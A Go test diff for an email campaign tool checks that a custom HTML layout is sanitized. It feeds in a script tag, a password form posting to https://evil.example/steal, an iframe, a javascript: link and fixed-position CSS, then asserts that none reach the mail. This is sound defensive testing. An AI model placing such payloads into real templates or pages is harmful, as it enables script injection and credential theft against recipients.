@@ -91,3 +91,36 @@ func TestMarkdownTextPart(t *testing.T) {
 		t.Errorf("the quote was lost:\n%s", text)
 	}
 }
+
+// TestLayoutSanitized (issue 9, section 3): a marketer's layout is sanitized
+// like a body: no script, form, frame, javascript: link or unsafe CSS reaches
+// the mail, and the layout's own fields and inlined CSS still work.
+func TestLayoutSanitized(t *testing.T) {
+	layout := `<html><head><style>p.brand { color: #c00; }</style></head><body>
+<script>alert(1)</script><form action="https://evil.example/steal"><input name="password"></form>
+<iframe src="https://evil.example"></iframe><a href="javascript:alert(1)">click</a>
+<p class="brand" style="position:fixed;top:0;font-size:13px">Brand</p>{{.Content}}
+<a href="{{.UnsubscribeURL}}">Unsubscribe</a></body></html>`
+	if err := CheckLayout(layout); err != nil {
+		t.Fatal(err)
+	}
+	c := model.Campaign{Name: "n", Subject: "s", From: "News <news@example.com>", Format: "html", Body: "<p>Body</p>", Template: "custom"}
+	cc, err := Compile(c, layout, LayoutFields{Org: "Org"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, html, _, err := cc.Render(sample, LayoutFields{Org: "Org"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, bad := range []string{"<script", "alert(1)", "<form", "<input", "<iframe", "javascript:", "position"} {
+		if strings.Contains(html, bad) {
+			t.Errorf("%q reached the mail:\n%s", bad, html)
+		}
+	}
+	for _, good := range []string{"Body", "font-size: 13px", "color: #c00", sample.UnsubscribeURL} {
+		if !strings.Contains(html, good) {
+			t.Errorf("%q lost:\n%s", good, html)
+		}
+	}
+}
